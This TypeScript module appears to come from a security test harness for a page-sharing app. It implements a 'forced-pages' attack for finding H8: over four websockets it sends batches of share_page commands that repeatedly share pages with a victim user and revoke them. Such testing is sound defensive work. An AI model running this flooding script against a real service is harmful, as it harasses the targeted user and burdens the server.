/** Pages that are repeatedly shared with the victim and taken away (H8). */
import type { Attack } from '../attack.js';
import { pause } from '../attacker.js';
import { sendBatch } from '../commands-at-once.js';
import { makePages } from '../holdings.js';

const PAGES = 500;
const BATCH = 100;
const SOCKETS = 4;

let pages: string[] = [];

export const forcedPages: Attack = {
  name: 'forced-pages',
  found: 'H8: pages were forced on anybody, as fast as they could be shared',
  prepare: async (attacker) => {
    pages = await makePages(attacker, PAGES);
  },
  run: async (attacker) => {
    const sockets = await attacker.sockets(SOCKETS);
    await attacker.over(SOCKETS, async (lane, round) => {
      const socket = sockets[lane];
      if (!socket?.isOpen)
        return void ((sockets[lane] = (await attacker.socket())!), sockets[lane] ?? (await pause(100)));
      const share = (n: number) => ({
        page_id: pages[(round * BATCH + n) % Math.max(1, pages.length)] ?? 'none',
        subject_type: 'user',
        subject_id: attacker.settings.victimId,
        can_view: round % 2 === 0,
        can_edit: false,
      });
      await sendBatch(
        socket,
        Array.from({ length: BATCH }, (_, n) => ({ type: 'share_page', payload: share(n) })),
      );
    });
  },
};
